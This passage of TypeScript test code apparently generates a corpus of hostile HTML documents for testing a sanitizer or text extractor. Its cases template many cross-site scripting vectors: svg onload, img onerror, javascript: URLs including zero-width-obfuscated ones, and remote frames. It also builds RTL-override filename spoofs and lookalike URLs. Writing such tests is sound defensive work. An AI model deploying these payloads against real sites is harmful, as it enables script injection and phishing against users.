  ['windows-1252', (id) => shell(id, 'windows-1252', '<meta charset="windows-1252">', `<p>Caf\u00e9 \u2014 \u201cquoted\u201d</p><script>${js(id)}</script>`), 'windows-1252'],
  ['only frameset', (id) => `<!DOCTYPE html><html><head><title>Hostile case ${id}: only frameset</title></head><frameset><frame src="${remote(id, 'only')}"><noframes><p>Hostile case ${id} keeps its words. ${FILLER[0]}</p><p>${FILLER[1]}</p><p>${FILLER[2]}</p></noframes></frameset></html>`, 'utf-8'],
  ['xhtml namespaces', (id) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:svg="http://www.w3.org/2000/svg"><head><title>Hostile case ${id}: xhtml namespaces</title></head><body><article><h1>Hostile case ${id}</h1><p>Hostile case ${id} keeps its words. ${FILLER[0]}</p><svg:svg onload="${js(id)}"><svg:script>${js(id)}</svg:script></svg:svg><p>${FILLER[1]}</p><p>${FILLER[2]}</p></article></body></html>`, 'utf-8'],
  ['markup in body text only', (id) => shell(id, 'markup in body text only', '', `<p>&lt;script&gt;${js(id)}&lt;/script&gt; and &lt;img src=x onerror=${js(id)}&gt; written out as text</p>`), 'utf-8'],
  ['deeply nested', (id) => shell(id, 'deeply nested', '', `${'<div>'.repeat(600)}<img src=x onerror="${js(id)}"><p>deep paragraph</p>${'</div>'.repeat(600)}`), 'utf-8'],
  ['huge attribute', (id) => shell(id, 'huge attribute', '', `<p title="${'A'.repeat(200_000)}" onclick="${js(id)}">paragraph with a huge attribute</p>`), 'utf-8'],
  ['many links', (id) => shell(id, 'many links', '', `<p>${Array.from({ length: 300 }, (_, i) => `<a href="${i % 2 ? `javascript:${js(id)}` : remote(id, `l${i}`)}">l${i}</a>`).join(' ')}</p>`), 'utf-8'],
  ['bidi and zero-width tricks', (id) => shell(id, 'bidi and zero-width tricks', '', `<p>\u202Egnp.exe\u202C <a href="java\u200Bscript:${js(id)}">zero width</a> <a href="https://example.org\u2044@${host(id)}/">lookalike</a></p>`), 'utf-8'],
];

// ---------------------------------------------------------------------------------------

function cases(): Case[] {
  const out: Case[] = [];
  for (const [spelling, make] of SCRIPT_SPELLINGS) {
    for (const slot of SCRIPT_SLOTS) {
      // Every spelling in the head and the body; every position for the main spellings.
      if (!['head', 'block'].includes(slot) && !['plain', 'split tag', 'no closing tag'].includes(spelling)) continue;
      if (slot === 'title') {
        out.push({ category: 'script', description: `${spelling} inside <title>`, slot, payload: (id) => `Hostile case ${id}: script in title ${make(id)}` });
      } else {
        out.push({ category: 'script', description: `${spelling} in ${slot}`, slot, payload: make });
      }
    }
  }
  for (const [element, make] of HANDLER_ELEMENTS) {
    for (const [handlers, attrs] of HANDLERS) {
      if (handlers === 'encoded handler body' && !['img src=x', 'svg', 'div', 'input autofocus', 'details open'].includes(element)) continue;
      out.push({ category: 'event handler', description: `${handlers} on ${element}`, slot: element === 'body' ? 'bodyStart' : 'block', payload: (id) => make(attrs(id)) });
    }
  }
  for (const [scheme, url] of SCRIPT_URLS) {
    for (const [attribute, make] of URL_ATTRIBUTES) {
      // Every attribute with javascript: and data:text/html; every scheme with a href and iframe src.
      if (!['javascript:', 'data:text/html'].includes(scheme) && !['a href', 'iframe src', 'img src', 'svg a xlink:href'].includes(attribute)) continue;
      out.push({ category: 'script URL', description: `${scheme} in ${attribute}`, slot: attribute === 'base href' || attribute === 'link href' || attribute === 'meta refresh url' ? 'head' : 'block', payload: (id) => make(url(id)) });
    }
  }
  for (const [name, make] of SVG_TRICKS) out.push({ category: 'SVG', description: name, slot: 'block', payload: make });
  for (const [name, make] of MATHML_TRICKS) out.push({ category: 'MathML', description: name, slot: 'block', payload: make });
  for (const [name, make] of MUTATION_XSS) out.push({ category: 'mutation XSS', description: name, slot: 'block', payload: make });
  for (const [name, make] of CSS_TRICKS) out.push({ category: 'CSS', description: name, slot: name.startsWith('link') || name.startsWith('@') ? 'head' : 'block', payload: make });
  for (const [name, make, slot] of NAVIGATION) out.push({ category: 'navigation', description: name, slot, payload: make });
  for (const [name, make] of FRAMES) out.push({ category: 'frames and objects', description: name, slot: 'block', payload: make });
  for (const [name, make] of FORMS) out.push({ category: 'forms', description: name, slot: 'block', payload: make });
  for (const [name, make] of REMOTE_IMAGES) out.push({ category: 'remote resources', description: name, slot: name.startsWith('link') ? 'head' : 'block', payload: make });
  for (const [name, make, slot] of METADATA) out.push({ category: 'metadata', description: name, slot, payload: make });
  for (const [name, make, encoding] of WHOLE) out.push({ category: 'whole document', description: name, whole: true, encoding, payload: make });
  return out;
}

function encode(text: string, encoding: Case['encoding']): Uint8Array {
  if (encoding === 'utf-16le') return new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
  if (encoding === 'windows-1252') return new Uint8Array(Buffer.from(text.replace(/\u2014/g, '\x97').replace(/\u201c/g, '\x93').replace(/\u201d/g, '\x94'), 'latin1'));
  return new Uint8Array(Buffer.from(text, 'utf8'));
}

function slug(text: string): string {
  return text.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '').slice(0, 40);
}

/** The corpus: every case once, numbered from 1 (ids "001"...). */
export function hostileCorpus(): HostileDoc[] {
  return cases().map((c, index) => {
    const id = String(index + 1).padStart(3, '0');
    const html = c.whole ? c.payload(id) : article(id, c);
    return {
      id,
      name: `${id}-${slug(`${c.category} ${c.description}`)}${index === 0 ? '.htm' : '.html'}`,
      category: c.category,
      description: c.description,
      bytes: encode(html, c.encoding ?? 'utf-8'),
      marker: `Hostile case ${id} keeps its words.`,
    };
  });
}
